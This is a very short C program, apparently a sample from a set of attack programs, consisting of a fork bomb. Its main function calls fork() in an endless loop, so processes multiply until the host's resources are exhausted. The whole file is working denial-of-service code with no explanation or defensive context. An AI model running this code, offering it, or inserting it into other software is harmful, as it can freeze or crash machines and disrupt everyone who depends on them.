/* Doubles for ever. */
#include "attack.h"

int main()
{
    for (;;)
        fork();
}
